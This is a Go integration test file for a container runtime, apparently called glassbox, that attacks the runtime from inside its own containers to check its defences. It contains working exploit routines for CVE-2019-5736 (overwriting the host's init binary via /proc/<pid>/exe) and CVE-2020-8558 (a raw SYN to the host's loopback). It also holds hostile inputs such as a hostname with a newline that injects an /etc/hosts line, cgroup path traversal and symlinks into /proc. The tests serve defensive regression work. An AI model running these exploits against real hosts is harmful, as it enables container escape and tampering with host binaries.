package integration

// Attacks on glassbox from inside its own containers, with what a container
// gets by default. Each test fails on a glassbox without the protection it
// names.

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// attackInitBinary is CVE-2019-5736 from inside a container. exec and debug
// start the host's glassbox-init in the container's pid namespace; the
// attacker opens /proc/<pid>/exe of each new process and keeps the
// descriptor if it is a file of the host's (not the container's busybox),
// and once that process has execve'd away — the file is no longer busy —
// reopens the descriptor for writing and appends to the host's binary.
// It reports what it did, a line at a time, on stdout.
func attackInitBinary() int {
	self := os.Getpid()
	busybox, err := os.Stat("/bin/busybox")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	done := map[int]bool{}
	refused := map[int]error{}
	fmt.Println("ready")
	for {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || done[pid] {
				continue
			}
			exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", pid))
			if err != nil {
				if errors.Is(err, os.ErrNotExist) && refused[pid] != nil {
					done[pid] = true // gone before it ever let us in
					fmt.Printf("pid %d: opening its exe was refused until it ended: %v\n", pid, refused[pid])
				} else if !errors.Is(err, os.ErrNotExist) {
					refused[pid] = err // a privileged or non-dumpable process: try again
				}
				continue
			}
			done[pid] = true
			if fi, err := exe.Stat(); err != nil || os.SameFile(fi, busybox) {
				if refused[pid] != nil {
					fmt.Printf("pid %d: opening its exe was refused until it ran busybox: %v\n", pid, refused[pid])
				}
				exe.Close()
				continue
			}
			fmt.Printf("pid %d: holding its exe, a host binary\n", pid)
			reopen := fmt.Sprintf("/proc/self/fd/%d", exe.Fd())
			for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(time.Millisecond) {
				w, err := os.OpenFile(reopen, os.O_WRONLY|os.O_APPEND, 0)
				if errors.Is(err, syscall.ETXTBSY) && time.Now().Before(deadline) {
					continue // still running it
				}
				if err != nil {
					fmt.Printf("pid %d: reopening its exe for writing was refused: %v\n", pid, err)
				} else {
					w.Write([]byte("written from inside a container\n"))
					w.Close()
					fmt.Printf("pid %d: WROTE the host's binary\n", pid)
				}
				break
			}
			exe.Close()
		}
	}
}

// withBinaryUnderAttack runs the rest of the test with a copy of glassbox
// (and glassbox-full, glassbox-init and glassbox-shim beside it) in a directory of its own,
// so that an attack that succeeds damages only the copy; it returns the
// copy's glassbox-init, whose hash the test compares.
func withBinaryUnderAttack(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for _, name := range []string{"glassbox", "glassbox-full", "glassbox-init", "glassbox-shim"} {
		src, err := os.Open(filepath.Join(filepath.Dir(glassbox), name))
		if err != nil {
			t.Fatal(err)
		}
		dst, err := os.OpenFile(filepath.Join(dir, name), os.O_WRONLY|os.O_CREATE, 0o755)
		if err == nil {
			_, err = io.Copy(dst, src)
			dst.Close()
		}
		src.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	original := glassbox
	glassbox = filepath.Join(dir, "glassbox")
	t.Cleanup(func() { glassbox = original })
	return filepath.Join(dir, "glassbox-init")
}

func fileHash(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return fmt.Sprintf("%x", sha256.Sum256(data))
}

// checkAttack waits for the attacker's report of every exec'd process and
// asserts that it never wrote, and that the host's binary is unchanged.
func checkAttack(t *testing.T, logs func() string, execs int, initBinary, hashBefore string) {
	t.Helper()
	var out string
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		if out = logs(); strings.Count(out, "\npid ") >= execs {
			break
		}
	}
	if strings.Contains(out, "WROTE") || fileHash(t, initBinary) != hashBefore {
		t.Errorf("a container overwrote the host's glassbox-init (sha256 %s, was %s):\n%s", fileHash(t, initBinary), hashBefore, out)
	} else if strings.Contains(out, "holding its exe") {
		// The init is non-dumpable: without CAP_SYS_PTRACE, its exe cannot
		// be opened at all (the read-only mount stopped the write).
		t.Errorf("a container opened the exe of the host's glassbox-init:\n%s", out)
	}
	if strings.Count(out, "\npid ") < execs {
		t.Errorf("the attacker reported on fewer processes than the %d execs:\n%s", execs, out)
	}
	t.Logf("the attacker saw %d processes of the host's: its exe could not be opened for %d, it held %d and could not write %d",
		strings.Count(out, "\npid "), strings.Count(out, "was refused until"), strings.Count(out, "holding its exe"), strings.Count(out, "for writing was refused"))
}

// exec starts the host's glassbox-init inside the container; the container's
// root tries to keep its binary open and write to it once it is not busy.
func TestInitBinaryCannotBeOverwrittenThroughExec(t *testing.T) {
	e := newEnv(t)
	initBinary := withBinaryUnderAttack(t)
	e.importBusybox()
	before := fileHash(t, initBinary)
	e.runDetached([]string{"--name", "victim", "-v", testProgram(t) + ":/attacker:ro", "-e", "GLASSBOX_TEST_ROLE=attack-init-binary"}, "busybox", "/attacker")
	defer e.run("", "rm", "-f", "victim")
	logs := func() string { return e.run("", "logs", "victim").stdout }
	for deadline := time.Now().Add(5 * time.Second); !strings.HasPrefix(logs(), "ready") && time.Now().Before(deadline); {
		time.Sleep(20 * time.Millisecond)
	}
	const execs = 20
	for range execs {
		if r := e.run("", "exec", "victim", "true"); r.code != 0 {
			t.Fatalf("exec: exit %d %s", r.code, r.stderr)
		}
	}
	checkAttack(t, logs, execs, initBinary, before)
}

// The same through glassbox-runc exec, as podman exec or crictl exec do it.
func TestInitBinaryCannotBeOverwrittenThroughOCIExec(t *testing.T) {
	e := newEnv(t)
	beSubreaper(t)
	initBinary := withBinaryUnderAttack(t)
	before := fileHash(t, initBinary)
	bundle := ociBundle(t, func(s map[string]any) {
		p := s["process"].(map[string]any)
		p["args"] = []string{"/attacker"}
		p["env"] = []string{"PATH=/bin", "GLASSBOX_TEST_ROLE=attack-init-binary"}
		s["mounts"] = append(s["mounts"].([]any), map[string]any{
			"destination": "/attacker", "type": "bind", "source": testProgram(t), "options": []string{"bind", "ro"},
		})
	})
	logFile := filepath.Join(t.TempDir(), "attacker.log")
	log, err := os.Create(logFile)
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	cmd := exec.Command(glassbox, "oci", "--root", e.root, "run", "--detach", "--bundle", bundle, "victim")
	cmd.Stdout, cmd.Stderr = log, log
	if err := cmd.Run(); err != nil {
		t.Fatalf("run --detach: %v", err)
	}
	defer e.oci("delete", "--force", "victim")
	logs := func() string { data, _ := os.ReadFile(logFile); return string(data) }
	for deadline := time.Now().Add(5 * time.Second); !strings.HasPrefix(logs(), "ready") && time.Now().Before(deadline); {
		time.Sleep(20 * time.Millisecond)
	}
	const execs = 20
	for range execs {
		if r := e.oci("exec", "victim", "true"); r.code != 0 {
			t.Fatalf("exec: exit %d %s", r.code, r.stderr)
		}
	}
	checkAttack(t, logs, execs, initBinary, before)
}

// The init is executed through a read-only mount of its file: even a process
// allowed to open /proc/<pid>/exe (the host's root here; a container with
// CAP_SYS_PTRACE, such as a --privileged one) cannot write through it, also
// once the init has execve'd away.
func TestInitBinaryIsExecutedReadOnly(t *testing.T) {
	e := newEnv(t)
	initBinary := withBinaryUnderAttack(t)
	e.importBusybox()
	before := fileHash(t, initBinary)
	id := e.runDetached([]string{"--break-at", "exec"}, "busybox", "true")
	defer e.run("", "rm", "-f", id)
	exe, err := os.Open(fmt.Sprintf("/proc/%d/exe", e.record(id).Pid))
	if err != nil {
		t.Fatal(err)
	}
	defer exe.Close()
	if fi, err := exe.Stat(); err != nil || !os.SameFile(fi, mustStat(t, initBinary)) {
		t.Fatalf("the paused init's exe is not %s: %v", initBinary, err)
	}
	if r := e.run("", "continue", id); r.code != 0 {
		t.Fatalf("continue: exit %d %s", r.code, r.stderr)
	}
	e.run("", "wait", id)
	w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", exe.Fd()), os.O_WRONLY|os.O_APPEND, 0)
	if err == nil {
		w.Close()
	}
	if !errors.Is(err, syscall.EROFS) {
		t.Errorf("reopening the init's exe for writing after it ran: %v, want EROFS", err)
	}
	if fileHash(t, initBinary) != before {
		t.Errorf("%s changed", initBinary)
	}
}

func mustStat(t *testing.T, path string) os.FileInfo {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi
}

// attackHostLoopback is CVE-2020-8558 from inside a container: a TCP SYN for
// 127.0.0.1:$GLASSBOX_TEST_PORT, written as a raw Ethernet frame (CAP_NET_RAW,
// which containers get by default) to the MAC address of the bridge, its
// gateway. The host routes packets for 127.0.0.0/8 arriving on the bridge
// when route_localnet is on there; a SYN-ACK back means a service that
// listens only on the host's loopback answered the container.
func attackHostLoopback() int {
	port, _ := strconv.Atoi(os.Getenv("GLASSBOX_TEST_PORT"))
	eth0, err := net.InterfaceByName("eth0")
	if err != nil {
		fmt.Println(err)
		return 1
	}
	addrs, _ := eth0.Addrs()
	src := addrs[0].(*net.IPNet).IP.To4()
	gw, mac, err := gatewayMAC()
	if err != nil {
		fmt.Println("the gateway's MAC address:", err)
		return 1
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_IP)))
	if err != nil {
		fmt.Println("socket(AF_PACKET):", err)
		return 1
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: eth0.Index}); err != nil {
		fmt.Println("bind:", err)
		return 1
	}
	const sport = 40404
	ip := []byte{0x45, 0, 0, 40, 0, 1, 0, 0, 64, unix.IPPROTO_TCP, 0, 0}
	ip = append(append(ip, src...), 127, 0, 0, 1)
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	tcp := make([]byte, 20)
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], uint16(port))
	binary.BigEndian.PutUint32(tcp[4:], 1)
	tcp[12], tcp[13] = 5<<4, 0x02 // header length 20, SYN
	binary.BigEndian.PutUint16(tcp[14:], 65535)
	pseudo := append(append(append([]byte{}, ip[12:20]...), 0, unix.IPPROTO_TCP, 0, 20), tcp...)
	binary.BigEndian.PutUint16(tcp[16:], checksum(pseudo))
	frame := append(append(append(append([]byte{}, mac...), eth0.HardwareAddr...), 0x08, 0x00), append(ip, tcp...)...)
	if err := unix.Sendto(fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: eth0.Index, Halen: 6, Addr: [8]byte(append(append([]byte{}, mac...), 0, 0))}); err != nil {
		fmt.Println("sendto:", err)
		return 1
	}
	fmt.Printf("sent a SYN for 127.0.0.1:%d to the gateway %s (%s)\n", port, gw, net.HardwareAddr(mac))
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100_000})
	buf := make([]byte, 2048)
	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil || n < 20+20 {
			continue
		}
		p := buf[:n] // AF_PACKET SOCK_RAW: from the Ethernet header
		if len(p) < 14+40 || p[14+9] != unix.IPPROTO_TCP {
			continue
		}
		t := p[14+int(p[14]&0xf)*4:]
		if binary.BigEndian.Uint16(t[0:]) == uint16(port) && binary.BigEndian.Uint16(t[2:]) == sport && t[13]&0x12 == 0x12 {
			fmt.Printf("SYN-ACK: the host's 127.0.0.1:%d answered\n", port)
			return 0
		}
	}
	fmt.Printf("no answer from 127.0.0.1:%d\n", port)
	return 0
}

// gatewayMAC finds the default gateway and learns its MAC address (a UDP
// datagram to it makes the kernel resolve it).
func gatewayMAC() (net.IP, []byte, error) {
	routes, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return nil, nil, err
	}
	var gw net.IP
	for _, line := range strings.Split(string(routes), "\n") {
		if f := strings.Fields(line); len(f) > 2 && f[1] == "00000000" {
			v, _ := strconv.ParseUint(f[2], 16, 32)
			gw = net.IPv4(byte(v), byte(v>>8), byte(v>>16), byte(v>>24)).To4()
		}
	}
	if gw == nil {
		return nil, nil, errors.New("no default route")
	}
	if c, err := net.Dial("udp4", gw.String()+":9"); err == nil {
		c.Write([]byte{0})
		c.Close()
	}
	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		arp, _ := os.ReadFile("/proc/net/arp")
		for _, line := range strings.Split(string(arp), "\n") {
			if f := strings.Fields(line); len(f) > 3 && f[0] == gw.String() && f[3] != "00:00:00:00:00:00" {
				mac, err := net.ParseMAC(f[3])
				return gw, mac, err
			}
		}
	}
	return nil, nil, fmt.Errorf("%s did not resolve", gw)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// checksum is the Internet checksum (RFC 1071).
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// A container cannot reach a service that listens only on the host's
// loopback, also while another container publishes a port (which turns on
// route_localnet on the bridge); the host still reaches published ports on
// 127.0.0.1.
func TestContainerCannotReachHostLoopback(t *testing.T) {
	e := newEnv(t)
	private, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer private.Close()
	port := freePort(t)
	stop := server(t, e, []string{"-p", fmt.Sprintf("127.0.0.1:%d:80", port)}, webSetup)
	defer stop()
	if body := httpGet(t, fmt.Sprintf("http://127.0.0.1:%d/", port)); body != "hello-from-web\n" {
		t.Errorf("127.0.0.1:%d answered %q", port, body)
	}
	out := e.runOK([]string{"-v", testProgram(t) + ":/attacker:ro", "-e", "GLASSBOX_TEST_ROLE=attack-host-loopback",
		"-e", fmt.Sprintf("GLASSBOX_TEST_PORT=%d", private.Addr().(*net.TCPAddr).Port)}, "/attacker")
	if !strings.Contains(out, "sent a SYN") || strings.Contains(out, "SYN-ACK") {
		t.Errorf("a container's SYN to the host's 127.0.0.1:\n%s", out)
	}
}

// (uid_t)-1 is "leave unchanged" to setresuid(2): a process told to become
// uid 4294967295 would stay root. Refused wherever an id comes in — flags,
// config.json, exec, and the container's own /etc/passwd — with one line.
func TestIDsThatAreNoIDs(t *testing.T) {
	e := newEnv(t)
	e.importBusybox()
	refused := func(what string, r result, want string) {
		t.Helper()
		if r.code != 125 || !strings.Contains(r.stderr, want) || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 || r.stdout != "" {
			t.Errorf("%s: exit %d, stdout %q, stderr %q; want exit 125 and one line with %q", what, r.code, r.stdout, r.stderr, want)
		}
	}
	refused("run -u 4294967295", e.run("", "run", "--rm", "-u", "4294967295", "busybox", "id", "-u"), "-u 4294967295: uid 4294967295 is (uid_t)-1")
	refused("run -u 0:4294967295", e.run("", "run", "--rm", "-u", "0:4294967295", "busybox", "id", "-u"), "-u 0:4294967295: gid 4294967295 is (gid_t)-1")
	passwd := filepath.Join(t.TempDir(), "passwd")
	os.WriteFile(passwd, []byte("root:x:0:0:root:/root:/bin/sh\nminus:x:4294967295:0::/:/bin/sh\nhuge:x:99999999999:0::/:/bin/sh\n"), 0o644)
	for _, name := range []string{"minus", "huge"} {
		refused("-u "+name+" from the container's /etc/passwd", e.run("", "run", "--rm", "-v", passwd+":/etc/passwd:ro", "-u", name, "busybox", "id", "-u"),
			"/etc/passwd: "+name+" has id")
	}
	id := e.runDetached(nil, "busybox", "sleep", "60")
	refused("exec -u 4294967295", e.run("", "exec", "-u", "4294967295", id, "id", "-u"), "-u 4294967295: uid 4294967295 is (uid_t)-1")
	e.run("", "rm", "-f", id)
	bundle := writeBundle(t, func(s map[string]any) {
		s["process"].(map[string]any)["user"] = map[string]any{"uid": 0, "gid": 0, "additionalGids": []uint32{4294967295}}
	})
	refused("config.json additionalGids", e.run("", "run", "--rm", "--bundle", bundle), "process.user.additionalGids[0] 4294967295 is (gid_t)-1")
	bundle = writeBundle(t, func(s map[string]any) { withUserNamespace(s, 4294901760, 65536) })
	refused("a uid mapping that reaches (uid_t)-1", e.run("", "run", "--rm", "--bundle", bundle), "reach past 4294967294")
	e.noState()
}

// Docker's security defaults, the way a Docker-style run gets them: the
// default seccomp profile (its allowlist, its argument checks), in run and in
// exec, and what each security flag changes.
func TestSeccompByDefault(t *testing.T) {
	e := newEnv(t)
	e.importBusybox()
	// unshare(CLONE_NEWUSER) needs no capability: only the profile stops it.
	probe := "grep ^Seccomp: /proc/self/status; unshare -U true 2>/dev/null && echo unshare-allowed || echo unshare-refused"
	if out := e.run("", "run", "--rm", "busybox", "sh", "-c", probe).stdout; out != "Seccomp:\t2\nunshare-refused\n" {
		t.Errorf("the default profile: %q", out)
	}
	if out := e.run("", "run", "--rm", "--security-opt", "seccomp=unconfined", "busybox", "sh", "-c", probe).stdout; out != "Seccomp:\t0\nunshare-allowed\n" {
		t.Errorf("seccomp=unconfined: %q", out)
	}
	id := e.runDetached(nil, "busybox", "sleep", "60")
	if out := e.run("", "exec", id, "sh", "-c", probe).stdout; out != "Seccomp:\t2\nunshare-refused\n" {
		t.Errorf("exec gets the container's profile: %q", out)
	}
	if r := e.run("", "inspect", id); !strings.Contains(r.stdout, `"org.glassbox.seccomp": "builtin"`) {
		t.Errorf("inspect does not name the profile:\n%s", r.stdout)
	}
	e.run("", "rm", "-f", id)
	// bpf(2) and the other calls the profile refuses, made directly.
	out := e.runOK([]string{"-v", testProgram(t) + ":/attacker:ro", "-e", "GLASSBOX_TEST_ROLE=forbidden-calls"}, "/attacker")
	for _, want := range []string{"bpf: operation not permitted", "keyctl: operation not permitted", "personality(READ_IMPLIES_EXEC): operation not permitted",
		"socket(AF_VSOCK): operation not permitted", "clone3: function not implemented"} {
		if !strings.Contains(out, want) {
			t.Errorf("want %q from inside the container:\n%s", want, out)
		}
	}
	// A profile of one's own, in Docker's format: mkdir is refused.
	profile := filepath.Join(t.TempDir(), "no-mkdir.json")
	os.WriteFile(profile, []byte(`{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO"}]}`), 0o644)
	r := e.run("", "run", "--rm", "--trace", "--security-opt", "seccomp="+profile, "busybox", "sh", "-c", "mkdir /tmp/x 2>&1; true")
	if !strings.Contains(r.stdout, "Operation not permitted") {
		t.Errorf("seccomp=%s: %q %q", profile, r.stdout, r.stderr)
	}
	e.noState()
}

// forbiddenCalls makes, from inside a container, calls the default profile
// refuses, and reports each one's errno.
func forbiddenCalls() int {
	report := func(name string, _, _ uintptr, errno syscall.Errno) {
		if errno == 0 {
			fmt.Printf("%s: allowed\n", name)
		} else {
			fmt.Printf("%s: %v\n", name, errno)
		}
	}
	r1, r2, e := unix.Syscall(unix.SYS_BPF, unix.BPF_MAP_CREATE, 0, 0)
	report("bpf", r1, r2, e)
	r1, r2, e = unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, 0, 0)
	report("keyctl", r1, r2, e)
	r1, r2, e = unix.Syscall(unix.SYS_PERSONALITY, 0x0400000, 0, 0)
	report("personality(READ_IMPLIES_EXEC)", r1, r2, e)
	r1, r2, e = unix.Syscall(unix.SYS_SOCKET, unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	report("socket(AF_VSOCK)", r1, r2, e)
	r1, r2, e = unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
	report("clone3", r1, r2, e)
	return 0
}

// What each security flag gives, as the container and its cgroup show it.
func TestSecurityFlags(t *testing.T) {
	e := newEnv(t)
	e.importBusybox()
	capEff := func(flags ...string) string {
		t.Helper()
		r := e.run("", append(append([]string{"run", "--rm"}, flags...), "busybox", "grep", "^CapEff:", "/proc/self/status")...)
		if r.code != 0 {
			t.Fatalf("run %v: exit %d %s", flags, r.code, r.stderr)
		}
		return strings.TrimSpace(strings.TrimPrefix(r.stdout, "CapEff:"))
	}
	if got := capEff("--cap-drop", "ALL", "--cap-add", "net_admin"); got != "0000000000001000" {
		t.Errorf("--cap-drop ALL --cap-add net_admin: CapEff %s, want only CAP_NET_ADMIN (bit 12)", got)
	}
	if got := capEff("--cap-drop", "CAP_CHOWN"); got != "00000000a80425fa" {
		t.Errorf("--cap-drop CAP_CHOWN: CapEff %s, want Docker's default without bit 0", got)
	}
	// --privileged: what Docker gives.
	own, _ := os.ReadFile("/proc/self/status")
	var bounding string
	for _, line := range strings.Split(string(own), "\n") {
		if v, ok := strings.CutPrefix(line, "CapBnd:"); ok {
			bounding = strings.TrimSpace(v)
		}
	}
	out := e.runOK([]string{"--privileged"}, "sh", "-c", "grep -E '^(CapEff|Seccomp):' /proc/self/status; test -c /dev/loop-control && echo host-devices; "+
		"test -s /proc/kcore -o ! -c /proc/kcore && echo kcore-unmasked; grep -q ' /sys sysfs rw' /proc/mounts && echo sys-rw")
	for _, want := range []string{"CapEff:\t" + bounding, "Seccomp:\t0", "host-devices", "kcore-unmasked", "sys-rw"} {
		if !strings.Contains(out, want) {
			t.Errorf("--privileged: want %q in\n%s", want, out)
		}
	}
	// --device with permissions: read, not write.
	out = e.runOK([]string{"--device", "/dev/loop-control:/dev/lc:r"}, "sh", "-c", "exec 3</dev/lc && echo read; (exec 4<>/dev/lc) 2>/dev/null && echo write || echo no-write")
	if out != "read\nno-write\n" {
		t.Errorf("--device /dev/loop-control:/dev/lc:r: %q", out)
	}
	if out := e.runOK([]string{"--ulimit", "nofile=100:200"}, "sh", "-c", "ulimit -n; ulimit -Hn"); out != "100\n200\n" {
		t.Errorf("--ulimit nofile=100:200: %q", out)
	}
	if out := e.runOK([]string{"--group-add", "1234", "--group-add", "daemon"}, "id", "-G"); out != "0 1234 1\n" && out != "0 1 1234\n" {
		t.Errorf("--group-add 1234 --group-add daemon: id -G %q", out)
	}
	if out := e.runOK([]string{"--security-opt", "no-new-privileges=false"}, "grep", "^NoNewPrivs:", "/proc/self/status"); out != "NoNewPrivs:\t0\n" {
		t.Errorf("no-new-privileges=false: %q", out)
	}
	e.noState()
}

// Hostile and mistaken security flags: one line each, exit 125, nothing made.
func TestSecurityFlagsRefused(t *testing.T) {
	e := newEnv(t)
	null := filepath.Join(t.TempDir(), "null.json")
	os.WriteFile(null, []byte("null"), 0o644)
	for flag, want := range map[string]string{
		"--cap-add=NOPE":                           "--cap-add NOPE: no such capability",
		"--cap-drop=CAP_NOPE":                      "--cap-drop CAP_NOPE: no such capability",
		"--security-opt=apparmor=docker-default":   "not supported by glassbox",
		"--security-opt=label=disable":             "not supported by glassbox",
		"--security-opt=seccomp=/nonexistent.json": "--security-opt seccomp=/nonexistent.json: open /nonexistent.json: no such file",
		"--security-opt=seccomp=" + null:           "defaultAction: missing",
		"--security-opt=no-new-privileges=maybe":   "true or false",
		"--security-opt=bogus":                     `--security-opt "bogus": glassbox knows`,
		"--device=/etc/passwd":                     "not a device node",
		"--device=/dev/null:relative":              "both paths must be absolute",
		"--device=/dev/null:/dev/n:rwx":            "permissions",
		"--device=/dev/null:/":                     "both paths must be absolute, and the container's not /",
		"--ulimit=nofile=2:1":                      "the soft limit 2 is above the hard limit 1",
		"--ulimit=nofile=99999999999999999999":     "is not a number",
		"--ulimit=nope=1":                          "expected NAME=SOFT[:HARD]",
		"--group-add=4294967295":                   "(gid_t)-1",
		"--group-add=a:b":                          "a gid or a group name",
		"--userns=keep-id":                         "only --userns=host",
	} {
		r := e.run("", e.runArgs([]string{flag}, "true")...)
		if r.code != 125 || !strings.Contains(r.stderr, want) || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
			t.Errorf("%s: exit %d, stderr %q; want exit 125 and one line with %q", flag, r.code, r.stderr, want)
		}
	}
	e.noState()
}

// A bundle is what a container's author controls: every hostile config.json
// gets one line naming the field, exit 1 (runc's), and leaves nothing behind.
func TestHostileBundles(t *testing.T) {
	e := newEnv(t)
	beSubreaper(t)
	for want, edit := range map[string]func(map[string]any){
		`linux.cgroupsPath "../../../../x"`: func(s map[string]any) { s["linux"].(map[string]any)["cgroupsPath"] = "../../../../x" },
		"a second pid namespace": func(s map[string]any) {
			l := s["linux"].(map[string]any)
			l["namespaces"] = append(l["namespaces"].([]any), map[string]any{"type": "pid"})
		},
		"needs a UTS namespace": func(s map[string]any) {
			l := s["linux"].(map[string]any)
			l["namespaces"] = slices.DeleteFunc(l["namespaces"].([]any), func(n any) bool { return n.(map[string]any)["type"] == "uts" })
		},
		`process.cwd "relative"`: func(s map[string]any) { s["process"].(map[string]any)["cwd"] = "relative" },
		`/proc must be a proc mount`: func(s map[string]any) {
			s["mounts"] = append(s["mounts"].([]any), map[string]any{"destination": "/proc", "type": "bind", "source": "/tmp", "options": []string{"bind"}})
		},
		"a mount over the container's root": func(s map[string]any) {
			s["mounts"] = append(s["mounts"].([]any), map[string]any{"destination": "/", "type": "bind", "source": "/tmp", "options": []string{"bind"}})
		},
		"process: missing": func(s map[string]any) { delete(s, "process") },
		"root: missing":    func(s map[string]any) { delete(s, "root") },
		"setns(/proc/self/ns/ipc, CLONE_NEWCGROUP): invalid argument": func(s map[string]any) {
			l := s["linux"].(map[string]any)
			l["namespaces"] = append(slices.DeleteFunc(l["namespaces"].([]any), func(n any) bool { return n.(map[string]any)["type"] == "cgroup" }),
				map[string]any{"type": "cgroup", "path": "/proc/self/ns/ipc"})
		},
	} {
		bundle := ociBundle(t, edit)
		r := e.oci("run", "--bundle", bundle, "hostile")
		if r.code != 1 || !strings.Contains(r.stderr, want) || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
			t.Errorf("%s: exit %d, stderr %q; want runc's exit 1 and one line with it", want, r.code, r.stderr)
		}
	}
	if null := ociBundle(t, func(map[string]any) {}); os.WriteFile(filepath.Join(null, "config.json"), []byte("null"), 0o644) == nil {
		if r := e.oci("run", "--bundle", null, "null"); r.code != 1 || !strings.Contains(r.stderr, "process: missing") {
			t.Errorf("config.json null: exit %d %q", r.code, r.stderr)
		}
	}
	e.noState()
}

// An image's symlink may lead a mount destination that looks harmless into
// /proc: a tmpfs over /proc/sys would hide the read-only view the masks make
// (and a bind could replace it). The mount stage checks where it leads.
func TestMountThroughSymlinkIntoProc(t *testing.T) {
	e := newEnv(t)
	beSubreaper(t)
	for link, target := range map[string]string{"/tmp/sys": "/proc/sys", "/var/kernel": "../proc/sys/kernel"} {
		bundle := ociBundle(t, func(s map[string]any) {
			s["mounts"] = append(s["mounts"].([]any), map[string]any{"destination": link, "type": "tmpfs", "source": "tmpfs"})
		})
		if err := os.Symlink(target, filepath.Join(bundle, "rootfs", link)); err != nil {
			t.Fatal(err)
		}
		r := e.oci("run", "--bundle", bundle, "symlinked")
		want := "a symlink in the rootfs leads it to /proc/sys"
		if r.code != 1 || !strings.Contains(r.stderr, want) || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
			t.Errorf("mount on %s -> %s: exit %d, stderr %q; want exit 1 and one line with %q", link, target, r.code, r.stderr, want)
		}
	}
	e.noState()
}

// A config.json's hostname and network aliases go into the /etc/hosts of
// every container on its network: one with a newline would write a line of
// its own there (6.6.6.6 for a neighbour's name). Refused.
func TestHostnameCannotWriteOthersHosts(t *testing.T) {
	e := newEnv(t)
	for _, edit := range []func(map[string]any){
		func(s map[string]any) { s["hostname"] = "a\n6.6.6.6 victim" },
		func(s map[string]any) {
			s["annotations"].(map[string]any)["org.glassbox.network.aliases"] = "ok,b\n6.6.6.6 victim"
		},
	} {
		bundle := writeBundle(t, func(s map[string]any) {
			s["annotations"] = map[string]any{"org.glassbox.network": "bridge"}
			edit(s)
		})
		r := e.run("", "run", "--rm", "--bundle", bundle)
		if r.code != 125 || !strings.Contains(r.stderr, "cannot go into the network's /etc/hosts") {
			t.Errorf("a name with a newline on the bridge: exit %d %q", r.code, r.stderr)
		}
	}
	e.noState()
}
